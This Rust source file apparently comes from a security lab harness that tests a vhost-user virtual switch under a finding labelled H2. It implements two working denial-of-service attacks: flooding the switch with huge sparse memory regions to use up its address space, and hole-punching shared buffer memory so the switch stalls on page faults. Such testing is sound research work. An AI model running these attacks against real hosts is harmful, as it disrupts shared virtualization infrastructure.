//! Memory that is none. Finding H2: regions of memory files that have no pages but are larger than any machine's memory, until the switch has no
//! addresses left for anybody. And memory whose pages are taken away again and again: whoever touches a page of a range that `fallocate` is punching a
//! hole into is put to sleep until that is done, without using any processor time.

use std::os::fd::AsFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use ringferry_memory::RegionSpec;
use ringferry_packet::vnet::Header;
use ringferry_rig::handmade::{Front, Shape};
use ringferry_vhost_user::ProtocolFeatures;
use rustix::fs::{FallocateFlags, MemfdFlags, fallocate, ftruncate, memfd_create};

use super::floods::{frame, mac};
use super::{Place, Step};
use crate::experiment::RowError;

/// Bytes of the first region, and of the smallest that is tried when larger ones are refused.
const LARGEST: u64 = 1 << 44;
const SMALLEST: u64 = 1 << 30;
/// Regions that fit a message.
const REGIONS: u64 = 8;
/// Where the regions are in the attacker's address space, far from the rings, and apart from each other.
const BEGIN: u64 = 1 << 50;

/// ADD_MEM_REG of regions of 16 TiB, and of smaller ones once those are refused; what was added stays. A switch that knows no such message
/// gets memory maps with as many of them as fit a message.
pub(super) fn sparse(place: &Place) -> Result<Step, RowError> {
    let socket = place.sockets.first().ok_or_else(|| RowError::failed("the attacker has no port"))?;
    let mut front = Front::new(socket, Shape::default())?;
    front.start()?;
    let end = front.region().guest_addr.max(BEGIN);
    let (mut size, mut next) = (LARGEST, end.next_multiple_of(LARGEST));
    let sparse = |size: u64, at: u64| {
        let file = memfd_create("ringferry-lab-sparse", MemfdFlags::CLOEXEC).map_err(std::io::Error::from)?;
        ftruncate(&file, size).map_err(std::io::Error::from)?;
        Ok::<_, RowError>((RegionSpec { guest_addr: at, size, user_addr: at, mmap_offset: 0 }, file))
    };
    let one_by_one = ProtocolFeatures::CONFIGURE_MEM_SLOTS;
    if !front.connection.negotiated().protocol.contains(one_by_one) {
        let more: Vec<_> =
            (0..REGIONS - 1).map(|at| sparse(size, next + at * size)).collect::<Result<_, _>>()?;
        return Ok(Box::new(move || {
            front.set_larger_mem_table(&more)?;
            front.check()?;
            Ok(1)
        }));
    }
    Ok(Box::new(move || {
        if size < SMALLEST {
            // It holds what it has.
            std::thread::sleep(std::time::Duration::from_millis(5));
            front.check()?;
            return Ok(0);
        }
        let (region, file) = sparse(size, next)?;
        match front.frontend().add_mem_reg(region, file.as_fd()) {
            Ok(()) => {
                next += size;
                Ok(1)
            }
            Err(ringferry_vhost_user::FrontendError::Refused(_)) => {
                size /= 2;
                Ok(0)
            }
            Err(error) => Err(RowError::failed(error)),
        }
    }))
}

/// Bytes of the memory that is punched: a hole into as many takes some tens of milliseconds.
const PUNCHED: usize = 300 << 20;
/// Threads that punch it.
const PUNCHERS: usize = 3;
/// Bytes of each frame that is sent from it, and how far apart the frames lie.
const FRAME: usize = 1514;
const APART: usize = PUNCHED / 1024;

/// Tells the threads of an attack that it is over when it is dropped.
struct Over(Arc<AtomicBool>);

impl Drop for Over {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

/// Sends from buffers all over a large file, and offers buffers in it for what is received, while threads give the file pages and punch holes
/// into all of it.
pub(super) fn holes(place: &Place) -> Result<Step, RowError> {
    let socket = place.sockets.first().ok_or_else(|| RowError::failed("the attacker has no port"))?;
    let mut front = Front::new(socket, Shape { buffers: PUNCHED, ..Shape::default() })?;
    let len = front.write_frame(0, &Header::default(), &frame(mac(1), mac(0), FRAME))?;
    front.send_from_all_over(APART, len)?;
    front.receive_into(0, 2048)?;
    front.start()?;
    let over = Over(Arc::default());
    let (from, file) = front.buffers_in_file()?;
    for _ in 0..PUNCHERS {
        let (file, over) = (file.try_clone()?, Arc::clone(&over.0));
        std::thread::Builder::new().name("lab-puncher".into()).spawn(move || {
            while !over.load(Ordering::Relaxed) {
                // Pages make punching slow. Neither ever fails: the file is the attacker's own.
                let _ = fallocate(&file, FallocateFlags::empty(), from, PUNCHED as u64);
                let hole = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
                let _ = fallocate(&file, hole, from, PUNCHED as u64);
            }
        })?;
    }
    let (mut sent, mut received) = (0, 0);
    Ok(Box::new(move || {
        let _over = &over;
        let done = front.rings[1].offer(&mut sent)? + front.rings[0].offer(&mut received)?;
        front.check()?;
        if done == 0 {
            std::thread::sleep(std::time::Duration::from_micros(100));
        }
        Ok(done)
    }))
}
